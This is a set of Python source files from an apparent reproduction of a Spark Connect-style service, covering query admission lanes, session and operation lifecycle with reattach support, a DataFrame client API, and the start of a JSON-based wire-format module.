                cluster_id=getattr(self._backend, "cluster_id", ""),
                operation_id=op.operation_id,
                deadline_seconds=float(deadline) if deadline is not None else None,
            )
            op.trace_id = query_ctx.trace_id
            self._admit_operation(session, op, query_ctx, request["plan"])
            try:
                with query_ctx.activate():
                    with query_ctx.span(
                        "execute_plan",
                        "service.operation",
                        operation_id=op.operation_id,
                        session_id=session.session_id,
                        lane=op.ticket.lane if op.ticket is not None else "",
                    ):
                        self._run_operation(session, op, request["plan"])
            finally:
                # Usually a no-op: the pipeline's execute stage released the
                # slot already. Covers command paths and pre-execute errors.
                ticket, op.ticket = op.ticket, None
                if ticket is not None:
                    ticket.release()
            yield from op.responses
            return
        if method == "reattach_execute":
            session = self._session(request)
            op = self.sessions.get_operation(
                request["operation_id"], session.session_id
            )
            start = int(request.get("last_index", -1)) + 1
            if op.trace_id is not None:
                # The reattach rejoins the operation's original trace.
                span = self.telemetry.start_span(
                    "reattach_execute",
                    "service.operation",
                    trace_id=op.trace_id,
                    user=session.user_ctx.user,
                    operation_id=op.operation_id,
                    resumed_from_index=start,
                )
                self.telemetry.finish_span(span)
            yield from op.remaining_from(start)
            return
        raise ProtocolError(f"unknown stream method '{method}'")

    # ------------------------------------------------------------------
    # Admission
    # ------------------------------------------------------------------

    def _lane_for(self, session: SessionState, plan: dict[str, Any]) -> str:
        """Pick the admission lane: a relation whose *structurally resolved*
        table references all land in ``system.*`` is an introspection read
        and bypasses admission; otherwise the session config chooses
        interactive (default) or batch.

        The resolution walks relation/SQL-AST table nodes, never raw
        strings — a ``system.`` substring inside a literal, comment or
        identifier cannot route a query onto the unthrottled system lane.
        Unknown shapes (``referenced_tables`` returns ``None``) stay on the
        admitted lanes, which is the conservative direction.
        """
        if proto.is_relation(plan):
            tables = proto.referenced_tables(plan)
            if tables and all(t.startswith("system.") for t in tables):
                return LANE_SYSTEM
        lane = session.config.get(LANE_CONFIG_KEY, LANE_INTERACTIVE)
        if lane not in LANE_PRIORITY or lane == LANE_SYSTEM:
            # Clients cannot claim the system lane via config.
            lane = LANE_INTERACTIVE
        return lane

    def _admit_operation(
        self,
        session: SessionState,
        op: OperationState,
        query_ctx: QueryContext,
        plan: dict[str, Any],
    ) -> None:
        """Pass the operation through the workload manager (if any).

        While blocked in the admission queue the operation is visible as
        ``QUEUED`` and holds its ticket, so ``interrupt`` can dequeue it;
        rejected operations are tombstoned and the typed, retryable error
        propagates to the client in-band.
        """
        if self.workload_manager is None:
            return
        op.status = OP_QUEUED
        tenant = session.config.get(TENANT_CONFIG_KEY) or session.user_ctx.user
        lane = self._lane_for(session, plan)
        try:
            ticket = self.workload_manager.admit(
                user=session.user_ctx.user,
                lane=lane,
                tenant=tenant,
                query_ctx=query_ctx,
                # Expose the ticket while this thread blocks in the queue,
                # so interrupt() from another thread can dequeue it.
                on_enqueued=lambda t: setattr(op, "ticket", t),
            )
        except LakeguardError:
            session.record_rejection()
            try:
                self.sessions.interrupt_operation(
                    op.operation_id, session.session_id
                )
            except (OperationGoneError, SessionError):
                pass  # an interrupt already tombstoned it
            raise
        op.ticket = ticket
        op.status = OP_RUNNING
        query_ctx.ticket = ticket
        session.record_admission(ticket.queue_wait)

    # ------------------------------------------------------------------
    # Execution
    # ------------------------------------------------------------------

    def _run_operation(
        self, session: SessionState, op: OperationState, plan: dict[str, Any]
    ) -> None:
        """Execute the plan and buffer the full response stream."""
        responses: list[dict[str, Any]] = []
        if proto.is_command(plan):
            payload = self._backend.execute_command(session, plan)
            responses.append(
                {
                    "@type": "command_result",
                    "operation_id": op.operation_id,
                    "payload": payload,
                }
            )
        elif proto.is_relation(plan):
            schema, columns = self._backend.execute_relation(session, plan)
            responses.append(
                {
                    "@type": "schema",
                    "operation_id": op.operation_id,
                    "schema": schema,
                }
            )
            num_rows = len(columns[0]) if columns else 0
            index = 0
            for start in range(0, max(num_rows, 1), self._result_batch_rows):
                chunk = [
                    col[start : start + self._result_batch_rows] for col in columns
                ]
                if start > 0 and (not chunk or not chunk[0]):
                    break
                responses.append(
                    {
                        "@type": "arrow_batch",
                        "operation_id": op.operation_id,
                        "index": index,
                        "columns": chunk,
                    }
                )
                index += 1
        else:
            raise ProtocolError(
                f"plan must be a relation or a command, got "
                f"'{proto.message_type(plan)}'"
            )
        responses.append(
            {"@type": "result_complete", "operation_id": op.operation_id}
        )
        op.responses = responses
        op.status = OP_FINISHED
