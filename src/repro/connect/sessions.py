"""Server-side session and operation lifecycle (§3.2.3).

The Spark Connect service "manages incoming connections and maps them to
individual Spark Sessions", owns temporary state (views, registered UDFs),
evicts idle sessions, and for each running query keeps an *operation* whose
buffered results support ReattachExecute after a dropped connection. An
operation whose client disappears is abandoned and tombstoned.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from repro.catalog.privileges import UserContext
from repro.common.clock import Clock, SystemClock
from repro.common.ids import new_id
from repro.engine.udf import PythonUDF
from repro.errors import OperationGoneError, SessionError

#: Idle seconds after which a session may be evicted.
DEFAULT_SESSION_TTL = 3600.0
#: Seconds without reattach after which a broken operation is abandoned.
DEFAULT_OPERATION_ABANDON_AFTER = 300.0

#: Waiting in the workload manager's admission queue, not yet executing.
OP_QUEUED = "QUEUED"
OP_RUNNING = "RUNNING"
OP_FINISHED = "FINISHED"
OP_INTERRUPTED = "INTERRUPTED"
OP_ABANDONED = "ABANDONED"


@dataclass
class OperationState:
    """One query execution, buffered for reattachability."""

    operation_id: str
    session_id: str
    status: str = OP_RUNNING
    #: Fully materialized response items, in order (schema, batches, done).
    responses: list[dict[str, Any]] = field(default_factory=list)
    #: Highest response index the client acknowledged receiving.
    acked_index: int = -1
    last_client_contact: float = 0.0
    #: Trace the operation executes under (client-sent or server-assigned);
    #: ReattachExecute resumes this same trace.
    trace_id: str | None = None
    #: The admission ticket while QUEUED/RUNNING; interrupting a QUEUED
    #: operation cancels this ticket, dequeuing it without ever executing.
    ticket: Any = None

    def remaining_from(self, index: int) -> list[dict[str, Any]]:
        return self.responses[index:]


@dataclass
class SessionState:
    """Per-user application state attached to one Spark session."""

    session_id: str
    user_ctx: UserContext
    created_at: float
    last_active: float
    #: Temporary views: name -> relation proto (client-defined plans).
    temp_views: dict[str, dict[str, Any]] = field(default_factory=dict)
    #: Ephemeral UDFs registered in this session, keyed by name.
    temp_udfs: dict[str, PythonUDF] = field(default_factory=dict)
    #: Session configuration (workload environment version etc.).
    config: dict[str, str] = field(default_factory=dict)
    closed: bool = False
    #: Bumped whenever temp views/UDFs change; part of the secure-plan cache
    #: key, since session temp state resolves at plan-decode time.
    temp_state_version: int = 0
    #: Per-tenant workload accounting, maintained by the Connect service:
    #: queries this session got admitted / rejected, and total queue wait.
    admitted_queries: int = 0
    rejected_queries: int = 0
    queue_wait_seconds: float = 0.0
    #: The open multi-statement transaction (a :class:`repro.txn.Transaction`)
    #: after BEGIN, or ``None``. While set, reads resolve at the
    #: transaction's pinned snapshots and writes stage into it; plan/result
    #: caches are bypassed (cached artifacts must never capture a pinned
    #: view of the data).
    active_txn: Any = None

    def bump_temp_state(self) -> None:
        self.temp_state_version += 1

    def record_admission(self, queue_wait: float) -> None:
        """Account one admitted query (and its admission-queue wait)."""
        self.admitted_queries += 1
        self.queue_wait_seconds += max(0.0, queue_wait)

    def record_rejection(self) -> None:
        """Account one query the workload manager refused to admit."""
        self.rejected_queries += 1


class SessionManager:
    """Creates, authenticates, expires and tombstones sessions/operations."""

    def __init__(
        self,
        clock: Clock | None = None,
        session_ttl: float = DEFAULT_SESSION_TTL,
        operation_abandon_after: float = DEFAULT_OPERATION_ABANDON_AFTER,
    ):
        self._clock = clock or SystemClock()
        self._ttl = session_ttl
        self._abandon_after = operation_abandon_after
        self._sessions: dict[str, SessionState] = {}
        self._operations: dict[str, OperationState] = {}
        #: Tombstones of abandoned/released operations (id -> final status).
        self._tombstones: dict[str, str] = {}

    # -- sessions ------------------------------------------------------------------

    def create_session(self, user_ctx: UserContext) -> SessionState:
        """Open a new session bound to an authenticated user context."""
        now = self._clock.now()
        session = SessionState(
            session_id=new_id("session"),
            user_ctx=user_ctx,
            created_at=now,
            last_active=now,
        )
        self._sessions[session.session_id] = session
        return session

    def get_session(self, session_id: str, user: str) -> SessionState:
        """Authenticated lookup: a session is private to the user who made it.

        This is the multi-user invariant (§2.5): another user on the same
        cluster cannot attach to — or read residual state from — a session
        they do not own.
        """
        session = self._sessions.get(session_id)
        if session is None or session.closed:
            raise SessionError(f"session '{session_id}' does not exist")
        if session.user_ctx.user != user:
            raise SessionError(
                f"session '{session_id}' belongs to another user"
            )
        session.last_active = self._clock.now()
        return session

    def adopt_session(self, session: SessionState) -> None:
        """Take over a session migrated from another backend (§6.2).

        The session keeps its id and all temporary state, so the client
        notices nothing.
        """
        session.last_active = self._clock.now()
        self._sessions[session.session_id] = session

    def evict_session(self, session_id: str) -> SessionState | None:
        """Remove a session for migration without closing it."""
        return self._sessions.pop(session_id, None)

    def close_session(self, session_id: str) -> None:
        session = self._sessions.pop(session_id, None)
        if session is not None:
            session.closed = True
        for op in list(self._operations.values()):
            if op.session_id == session_id:
                self._finish_operation(op, OP_ABANDONED)

    def expire_idle_sessions(self) -> list[str]:
        """Evict sessions idle beyond the TTL; returns their ids."""
        now = self._clock.now()
        expired = [
            sid
            for sid, s in self._sessions.items()
            if now - s.last_active > self._ttl
        ]
        for sid in expired:
            self.close_session(sid)
        return expired

    def active_sessions(self) -> list[SessionState]:
        return [s for s in self._sessions.values() if not s.closed]

    # -- operations -----------------------------------------------------------------

    def start_operation(self, session_id: str, operation_id: str | None = None) -> OperationState:
        """Track a new query execution (id may be client-supplied)."""
        op = OperationState(
            operation_id=operation_id or new_id("op"),
            session_id=session_id,
            last_client_contact=self._clock.now(),
        )
        self._operations[op.operation_id] = op
        return op

    def get_operation(self, operation_id: str, session_id: str) -> OperationState:
        """Look up a live operation; raises OperationGone for tombstones."""
        op = self._operations.get(operation_id)
        if op is None:
            status = self._tombstones.get(operation_id)
            if status is not None:
                raise OperationGoneError(
                    f"operation '{operation_id}' was {status.lower()} and "
                    "its results released"
                )
            raise OperationGoneError(f"operation '{operation_id}' does not exist")
        if op.session_id != session_id:
            raise SessionError(
                f"operation '{operation_id}' belongs to another session"
            )
        op.last_client_contact = self._clock.now()
        return op

    def release_operation(self, operation_id: str, session_id: str) -> None:
        """Client acknowledges completion; results are dropped."""
        op = self._operations.pop(operation_id, None)
        if op is not None and op.session_id == session_id:
            self._tombstones[operation_id] = OP_FINISHED

    def interrupt_operation(self, operation_id: str, session_id: str) -> None:
        """Interrupt a running — or still-queued — operation.

        A QUEUED operation is blocked in the workload manager's admission
        queue on its serving thread; cancelling its ticket dequeues it and
        releases the reservation, so the blocked ``admit()`` call raises
        instead of ever executing. A RUNNING operation is only tombstoned:
        its concurrency slot stays held until the serving thread finishes,
        because execution cannot be preempted.
        """
        op = self.get_operation(operation_id, session_id)
        self._finish_operation(op, OP_INTERRUPTED)

    def reap_abandoned_operations(self) -> list[str]:
        """Tombstone operations whose clients stopped reattaching (§3.2.3)."""
        now = self._clock.now()
        doomed = [
            op
            for op in self._operations.values()
            if now - op.last_client_contact > self._abandon_after
        ]
        for op in doomed:
            self._finish_operation(op, OP_ABANDONED)
        return [op.operation_id for op in doomed]

    def _finish_operation(self, op: OperationState, status: str) -> None:
        ticket = op.ticket
        if ticket is not None and ticket.cancel():
            # QUEUED: dequeued and its reservation released; the blocked
            # admit() call on the serving thread raises instead of running.
            op.ticket = None
        # An ADMITTED ticket is deliberately left alone: there is no
        # preemption, so the serving thread is still executing in its slot.
        # Releasing here would let the scheduler dispatch past total_slots
        # (repeated interrupts -> unbounded overcommit) and record a
        # truncated service time into the wait-estimator EWMA. The
        # execute-stage bracket / handle_stream ``finally`` on the serving
        # thread frees the slot when the operator actually finishes.
        op.status = status
        self._operations.pop(op.operation_id, None)
        self._tombstones[op.operation_id] = status
