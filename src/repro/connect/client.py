"""The Spark Connect DataFrame client (§3.2.1).

Deliberately *engine-free*: this module depends only on the wire format and
a channel. DataFrame operations accumulate an unresolved plan as protocol
messages; actions (``collect``, ``count``, ``show``) ship it to the service
and stream back result batches, transparently reattaching when the
connection drops.

Ephemeral Python UDFs are shipped inside the plan (cloudpickle), exactly as
PySpark does; on the server they run in the submitting user's trust-domain
sandbox, never in the engine.
"""

from __future__ import annotations

import uuid
from typing import Any, Callable, Sequence

import cloudpickle

from repro.connect import proto
from repro.connect.channel import Channel
from repro.connect.service import raise_from_message
from repro.errors import LakeguardError, ProtocolError, TransportError

#: How many times collect() re-attaches before giving up.
MAX_REATTACHES = 8


# ---------------------------------------------------------------------------
# Column DSL
# ---------------------------------------------------------------------------


class Column:
    """A client-side expression: a thin wrapper over an expression message."""

    def __init__(self, expr: dict[str, Any]):
        self.expr = expr

    # -- naming ---------------------------------------------------------------

    def alias(self, name: str) -> "Column":
        return Column(proto.alias(self.expr, name))

    def cast(self, type_name: str) -> "Column":
        return Column(proto.cast(self.expr, type_name))

    # -- arithmetic -------------------------------------------------------------

    def _binary(self, op: str, other: Any) -> "Column":
        # Spark semantics: non-Column operands of operators are literals
        # ('US' in col("region") == "US" is a string, not a column).
        return Column(proto.binary(op, self.expr, _to_literal_or_column(other)))

    def __add__(self, other):  # noqa: D105
        return self._binary("+", other)

    def __sub__(self, other):
        return self._binary("-", other)

    def __mul__(self, other):
        return self._binary("*", other)

    def __truediv__(self, other):
        return self._binary("/", other)

    def __mod__(self, other):
        return self._binary("%", other)

    def __radd__(self, other):
        return Column(proto.binary("+", _to_literal_or_column(other), self.expr))

    def __rmul__(self, other):
        return Column(proto.binary("*", _to_literal_or_column(other), self.expr))

    # -- comparisons --------------------------------------------------------------

    def __eq__(self, other):  # type: ignore[override]
        return self._binary("=", other)

    def __ne__(self, other):  # type: ignore[override]
        return self._binary("!=", other)

    def __lt__(self, other):
        return self._binary("<", other)

    def __le__(self, other):
        return self._binary("<=", other)

    def __gt__(self, other):
        return self._binary(">", other)

    def __ge__(self, other):
        return self._binary(">=", other)

    # -- boolean ---------------------------------------------------------------

    def __and__(self, other):
        return self._binary("AND", other)

    def __or__(self, other):
        return self._binary("OR", other)

    def __invert__(self):
        return Column(proto.not_(self.expr))

    def is_null(self) -> "Column":
        return Column(proto.isnull(self.expr))

    def is_not_null(self) -> "Column":
        return Column(proto.isnull(self.expr, negated=True))

    def like(self, pattern: str) -> "Column":
        return Column(proto.like(self.expr, pattern))

    def not_like(self, pattern: str) -> "Column":
        return Column(proto.like(self.expr, pattern, negated=True))

    def isin(self, *values: Any) -> "Column":
        flat = values[0] if len(values) == 1 and isinstance(values[0], (list, tuple)) else values
        return Column(proto.in_list(self.expr, list(flat)))

    def __hash__(self):  # __eq__ overridden; keep Columns usable in sets
        return id(self)

    def __repr__(self):
        return f"Column({self.expr})"


def _to_expr(value: Any) -> dict[str, Any]:
    if isinstance(value, Column):
        return value.expr
    if isinstance(value, str):
        # Bare strings in expression positions are column names, as in Spark.
        return proto.column(value)
    return proto.literal(value)


def _to_literal_or_column(value: Any) -> dict[str, Any]:
    if isinstance(value, Column):
        return value.expr
    return proto.literal(value)


# -- public column constructors -------------------------------------------------


def col(name: str) -> Column:
    return Column(proto.column(name))


def lit(value: Any) -> Column:
    return Column(proto.literal(value))


def expr(sql_text: str) -> Column:
    """A SQL expression string, parsed server-side."""
    return Column(proto.sql_expr(sql_text))


def current_user() -> Column:
    return Column(proto.current_user())


def is_account_group_member(group: str) -> Column:
    return Column(proto.group_member(group))


def call_function(name: str, *args: Any) -> Column:
    return Column(proto.func(name, [_to_expr(a) for a in args]))


def when(condition: Column, value: Any) -> "CaseBuilder":
    return CaseBuilder([(condition.expr, _to_literal_or_column(value))])


class CaseBuilder:
    """Fluent CASE WHEN builder: ``when(c, v).when(...).otherwise(v)``."""

    def __init__(self, branches: list[tuple[dict, dict]]):
        self._branches = branches

    def when(self, condition: Column, value: Any) -> "CaseBuilder":
        return CaseBuilder(
            self._branches + [(condition.expr, _to_literal_or_column(value))]
        )

    def otherwise(self, value: Any) -> Column:
        return Column(proto.case_when(self._branches, _to_literal_or_column(value)))

    def end(self) -> Column:
        return Column(proto.case_when(self._branches, None))


# -- aggregates ------------------------------------------------------------------


def sum_(column: Any) -> Column:
    return Column(proto.agg("sum", _to_expr(column)))


def avg(column: Any) -> Column:
    return Column(proto.agg("avg", _to_expr(column)))


def min_(column: Any) -> Column:
    return Column(proto.agg("min", _to_expr(column)))


def max_(column: Any) -> Column:
    return Column(proto.agg("max", _to_expr(column)))


def count(column: Any = None) -> Column:
    return Column(proto.agg("count", None if column is None else _to_expr(column)))


def count_distinct(column: Any) -> Column:
    return Column(proto.agg("count", _to_expr(column), distinct_=True))


# -- UDFs -------------------------------------------------------------------------


class ConnectUDF:
    """A client-registered Python UDF; calling it builds a plan expression."""

    def __init__(self, func: Callable[..., Any], return_type: str,
                 name: str | None = None, deterministic: bool = True):
        self.func = func
        self.return_type = return_type
        self.name = name or func.__name__
        self.deterministic = deterministic
        self._blob = cloudpickle.dumps(func)

    def __call__(self, *args: Any) -> Column:
        return Column(
            proto.python_udf(
                self.name,
                self.return_type,
                self._blob,
                [_to_expr(a) for a in args],
                self.deterministic,
            )
        )


def udf(return_type: str, name: str | None = None, deterministic: bool = True):
    """Decorator: ``@udf("float")`` on the client side."""

    def wrap(func: Callable[..., Any]) -> ConnectUDF:
        return ConnectUDF(func, return_type, name, deterministic)

    return wrap


def catalog_function(name: str) -> Callable[..., Column]:
    """Reference a Unity Catalog UDF by three-level name."""

    def call(*args: Any) -> Column:
        return Column(proto.catalog_function(name, [_to_expr(a) for a in args]))

    return call


# ---------------------------------------------------------------------------
# DataFrame
# ---------------------------------------------------------------------------


class DataFrame:
    """An immutable, lazy plan of protocol messages."""

    def __init__(self, client: "SparkConnectClient", relation: dict[str, Any]):
        self._client = client
        self.relation = relation

    def _derive(self, relation: dict[str, Any]) -> "DataFrame":
        return DataFrame(self._client, relation)

    # -- transformations ---------------------------------------------------------

    def select(self, *columns: Any) -> "DataFrame":
        # NB: compare via isinstance first — Column overloads __eq__.
        exprs = [
            proto.star() if (isinstance(c, str) and c == "*") else _to_expr(c)
            for c in columns
        ]
        return self._derive(proto.project(self.relation, exprs))

    def filter(self, condition: Any) -> "DataFrame":
        cond = (
            proto.sql_expr(condition)
            if isinstance(condition, str)
            else _to_expr(condition)
        )
        return self._derive(proto.filter_relation(self.relation, cond))

    where = filter

    def with_column(self, name: str, column: Column) -> "DataFrame":
        exprs = [proto.star(), proto.alias(column.expr, name)]
        return self._derive(proto.project(self.relation, exprs))

    def join(self, other: "DataFrame", on: Any, how: str = "inner") -> "DataFrame":
        condition = None if how == "cross" else (
            proto.sql_expr(on) if isinstance(on, str) else _to_expr(on)
        )
        return self._derive(
            proto.join(self.relation, other.relation, how, condition)
        )

    def group_by(self, *keys: Any) -> "GroupedData":
        return GroupedData(self, [_to_expr(k) for k in keys])

    groupBy = group_by

    def order_by(self, *columns: Any, ascending: bool | Sequence[bool] = True) -> "DataFrame":
        """Sort by columns; ``ascending`` may be one flag or one per column."""
        flags = (
            list(ascending)
            if isinstance(ascending, (list, tuple))
            else [ascending] * len(columns)
        )
        orders = [
            {"expr": _to_expr(c), "ascending": bool(a), "nulls_first": bool(a)}
            for c, a in zip(columns, flags)
        ]
        return self._derive(proto.sort(self.relation, orders))

    orderBy = order_by

    def limit(self, n: int, offset: int = 0) -> "DataFrame":
        return self._derive(proto.limit(self.relation, n, offset))

    def distinct(self) -> "DataFrame":
        return self._derive(proto.distinct(self.relation))

    def union(self, other: "DataFrame") -> "DataFrame":
        return self._derive(proto.union([self.relation, other.relation]))

    def alias(self, name: str) -> "DataFrame":
        return self._derive(proto.subquery_alias(self.relation, name))

    # -- actions ---------------------------------------------------------------

    def collect(self) -> list[tuple]:
        schema, columns = self._client.execute_relation(self.relation)
        return list(zip(*columns)) if columns and columns[0] is not None else []

    def to_dict(self) -> dict[str, list[Any]]:
        schema, columns = self._client.execute_relation(self.relation)
        return {f["name"]: col_ for f, col_ in zip(schema, columns)}

    def count(self) -> int:
        agg_rel = proto.aggregate(
            self.relation, [], [proto.alias(proto.agg("count", None), "count")]
        )
        _, columns = self._client.execute_relation(agg_rel)
        return int(columns[0][0])

    def schema(self) -> list[dict[str, str]]:
        return self._client.analyze_relation(self.relation)

    def show(self, max_rows: int = 20) -> None:
        """Print an ASCII table of up to ``max_rows`` result rows."""
        schema, columns = self._client.execute_relation(self.relation)
        names = [f["name"] for f in schema]
        rows = list(zip(*columns))[:max_rows]
        widths = [
            max(len(n), *(len(str(r[i])) for r in rows)) if rows else len(n)
            for i, n in enumerate(names)
        ]
        sep = "+" + "+".join("-" * (w + 2) for w in widths) + "+"
        print(sep)
        print("|" + "|".join(f" {n:<{w}} " for n, w in zip(names, widths)) + "|")
        print(sep)
        for row in rows:
            print(
                "|"
                + "|".join(f" {str(v):<{w}} " for v, w in zip(row, widths))
                + "|"
            )
        print(sep)

    def create_temp_view(self, name: str) -> None:
        self._client.execute_command(
            proto.create_temp_view_command(name, self.relation)
        )

    createOrReplaceTempView = create_temp_view


class GroupedData:
    """Result of ``df.group_by(...)``; finish with ``agg``."""

    def __init__(self, df: DataFrame, groupings: list[dict[str, Any]]):
        self._df = df
        self._groupings = groupings

    def agg(self, *aggregates: Column) -> DataFrame:
        outputs = list(self._groupings) + [a.expr for a in aggregates]
        return self._df._derive(
            proto.aggregate(self._df.relation, self._groupings, outputs)
        )

    def count(self) -> DataFrame:
        return self.agg(Column(proto.alias(proto.agg("count", None), "count")))


# ---------------------------------------------------------------------------
# Client
# ---------------------------------------------------------------------------


class SparkConnectClient:
    """A remote Spark session speaking the Connect protocol over a channel."""

    def __init__(
        self,
        channel: Channel,
        user: str,
        client_version: int = proto.PROTOCOL_VERSION,
        config: dict[str, str] | None = None,
    ):
        self._channel = channel
        self.user = user
        self.client_version = client_version
        response = self._call(
            "create_session",
            {
                "user": user,
                "client_version": client_version,
                "config": config or {},
            },
        )
        self.session_id = response["session_id"]
        self.server_version = response["server_version"]
        #: Trace id of the most recent execute_plan (for profile lookups).
        self.last_trace_id: str | None = None
        #: When set, every execute carries this per-query deadline (another
        #: protocol extension field; old servers ignore it). The workload
        #: manager rejects up front if the admission queue alone would
        #: exceed it.
        self.deadline_seconds: float | None = None

    # -- plumbing ---------------------------------------------------------------

    def _call(self, method: str, request: dict[str, Any]) -> dict[str, Any]:
        response = self._channel.call(method, request)
        raise_from_message(response)
        return response

    def _base_request(self) -> dict[str, Any]:
        return {
            "session_id": self.session_id,
            "user": self.user,
            "client_version": self.client_version,
        }

    def _execute_stream(self, plan: dict[str, Any]) -> list[dict[str, Any]]:
        """Run execute_plan, transparently reattaching on transport faults."""
        operation_id = f"op-{uuid.uuid4().hex[:12]}"
        # Client-generated trace id, sent as a protocol extension field so the
        # server-side trace tree is addressable from the client.
        trace_id = f"trace-{uuid.uuid4().hex[:16]}"
        self.last_trace_id = trace_id
        request = {
            **self._base_request(),
            "plan": plan,
            "operation_id": operation_id,
            "trace_id": trace_id,
        }
        if self.deadline_seconds is not None:
            request["deadline_seconds"] = self.deadline_seconds
        received: list[dict[str, Any]] = []
        attempts = 0
        stream = self._channel.call_stream("execute_plan", request)
        while True:
            try:
                for item in stream:
                    raise_from_message(item)
                    received.append(item)
                    if item.get("@type") == "result_complete":
                        self._call(
                            "release_execute",
                            {**self._base_request(), "operation_id": operation_id},
                        )
                        return received
                # Stream ended without completion marker.
                raise ProtocolError("result stream ended prematurely")
            except TransportError:
                attempts += 1
                if attempts > MAX_REATTACHES:
                    raise
                stream = self._channel.call_stream(
                    "reattach_execute",
                    {
                        **self._base_request(),
                        "operation_id": operation_id,
                        "last_index": len(received) - 1,
                    },
                )

    def execute_relation(
        self, relation: dict[str, Any]
    ) -> tuple[list[dict[str, str]], list[list[Any]]]:
        """Execute and reassemble the streamed batches into columns."""
        items = self._execute_stream(relation)
        schema: list[dict[str, str]] = []
        columns: list[list[Any]] = []
        for item in items:
            kind = item.get("@type")
            if kind == "schema":
                schema = item["schema"]
                columns = [[] for _ in schema]
            elif kind == "arrow_batch":
                for i, chunk in enumerate(item["columns"]):
                    columns[i].extend(chunk)
        return schema, columns

    def execute_command(self, command: dict[str, Any]) -> dict[str, Any]:
        items = self._execute_stream(command)
        for item in items:
            if item.get("@type") == "command_result":
                return item.get("payload", {})
        return {}

    def analyze_relation(self, relation: dict[str, Any]) -> list[dict[str, str]]:
        response = self._call(
            "analyze_plan", {**self._base_request(), "plan": relation}
        )
        return response["schema"]

    # -- session surface -----------------------------------------------------------

    def table(self, name: str) -> DataFrame:
        return DataFrame(self, proto.read_table(name))

    def sql(self, query: str) -> DataFrame | dict[str, Any]:
        """Run SQL. SELECT queries return a DataFrame; DDL/DML executes now."""
        stripped = query.lstrip().lower()
        if stripped.startswith("select"):
            return DataFrame(self, proto.sql_relation(query))
        return self.execute_command(proto.sql_command(query))

    def range(self, start: int, end: int | None = None, step: int = 1) -> DataFrame:
        if end is None:
            start, end = 0, start
        return DataFrame(self, proto.range_relation(start, end, step))

    def create_data_frame(
        self, data: dict[str, list[Any]], types: dict[str, str] | None = None
    ) -> DataFrame:
        """Build a DataFrame from local columns (``createDataFrame``)."""
        schema = [
            {"name": name, "type": (types or {}).get(name, _infer_type(values))}
            for name, values in data.items()
        ]
        return DataFrame(
            self, proto.local_relation(schema, [list(v) for v in data.values()])
        )

    def register_udf(self, udf_obj: "ConnectUDF") -> None:
        """Register a temporary UDF under its name for this session's SQL.

        After registration, SQL text may call it: ``SELECT my_udf(v) FROM t``.
        The code runs in this user's trust-domain sandbox like any other UDF.
        """
        self.execute_command(
            proto.register_function_command(
                udf_obj.name,
                udf_obj.return_type,
                udf_obj._blob,
                udf_obj.deterministic,
            )
        )

    def set_config(self, **values: str) -> None:
        self._call("config", {**self._base_request(), "set": values})

    def get_config(self, *keys: str) -> dict[str, str | None]:
        response = self._call("config", {**self._base_request(), "get": list(keys)})
        return response["values"]

    def interrupt(self, operation_id: str) -> None:
        self._call(
            "interrupt", {**self._base_request(), "operation_id": operation_id}
        )

    def close(self) -> None:
        try:
            self._call("close_session", self._base_request())
        except LakeguardError:
            pass

    def __enter__(self) -> "SparkConnectClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


def _infer_type(values: list[Any]) -> str:
    for value in values:
        if value is None:
            continue
        if isinstance(value, bool):
            return "bool"
        if isinstance(value, int):
            return "int"
        if isinstance(value, float):
            return "float"
        if isinstance(value, (bytes, bytearray)):
            return "binary"
        return "string"
    return "string"
