"""The Spark Connect wire format (protobuf stand-in).

Messages are dict trees with an ``@type`` discriminator, encoded to bytes as
JSON (binary values wrapped as ``{"@bytes": <base64>}``). Two protobuf
properties the paper's versionless story (§6.3) depends on are preserved:

- **forward compatibility** — decoders access known keys and ignore unknown
  ones, so an older server tolerates messages with newer optional fields;
- **version negotiation** — every request carries ``client_version``; a
  server accepts any client at or below its own ``PROTOCOL_VERSION``.

Extension points (§3.2.2): ``relation.extension`` / ``command.extension``
carry a namespaced name plus an opaque payload; servers dispatch them through
a registry, so plugins (e.g. a Delta extension) extend the protocol without
modifying it.
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

from repro.errors import ProtocolError, VersionIncompatibleError

#: Current protocol version of this library build.
PROTOCOL_VERSION = 4

#: Oldest client version the server still understands.
MIN_SUPPORTED_CLIENT_VERSION = 1


# ---------------------------------------------------------------------------
# Byte-level encoding
# ---------------------------------------------------------------------------


def _encode_value(value: Any) -> Any:
    if isinstance(value, (bytes, bytearray)):
        return {"@bytes": base64.b64encode(bytes(value)).decode("ascii")}
    if isinstance(value, dict):
        return {k: _encode_value(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_encode_value(v) for v in value]
    return value


def _decode_value(value: Any) -> Any:
    if isinstance(value, dict):
        if set(value.keys()) == {"@bytes"}:
            return base64.b64decode(value["@bytes"])
        return {k: _decode_value(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_decode_value(v) for v in value]
    return value


def encode_message(message: dict[str, Any]) -> bytes:
    """Serialize a message tree to wire bytes."""
    try:
        return json.dumps(_encode_value(message)).encode("utf-8")
    except (TypeError, ValueError) as exc:
        raise ProtocolError(f"message is not wire-serializable: {exc}") from exc


def decode_message(data: bytes) -> dict[str, Any]:
    """Deserialize wire bytes into a message tree."""
    try:
        decoded = _decode_value(json.loads(data.decode("utf-8")))
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise ProtocolError(f"malformed wire message: {exc}") from exc
    if not isinstance(decoded, dict):
        raise ProtocolError("wire message must be an object")
    return decoded


def check_client_version(client_version: int, server_version: int = PROTOCOL_VERSION) -> None:
    """Enforce backward (not forward) compatibility."""
    if client_version > server_version:
        raise VersionIncompatibleError(
            f"client protocol version {client_version} is newer than the "
            f"server's {server_version}"
        )
    if client_version < MIN_SUPPORTED_CLIENT_VERSION:
        raise VersionIncompatibleError(
            f"client protocol version {client_version} is no longer supported "
            f"(minimum {MIN_SUPPORTED_CLIENT_VERSION})"
        )


def message_type(message: dict[str, Any]) -> str:
    try:
        return message["@type"]
    except (KeyError, TypeError):
        raise ProtocolError(f"message lacks '@type': {message!r}") from None


def is_command(plan: dict[str, Any]) -> bool:
    return message_type(plan).startswith("command.")


def references_system_tables(obj: Any) -> bool:
    """True if any string in the wire plan *mentions* ``system.`` — a
    deliberately over-broad substring scan (it matches inside SQL string
    literals too).

    Only safe for the plan cache's conservative bypass: system tables
    materialize at resolve time, so cached secure plans would freeze them,
    and a false positive merely skips caching one plan. Never use this for
    admission/privilege decisions — use :func:`referenced_tables`, which
    resolves table references structurally and cannot be spoofed by data.
    """
    if isinstance(obj, dict):
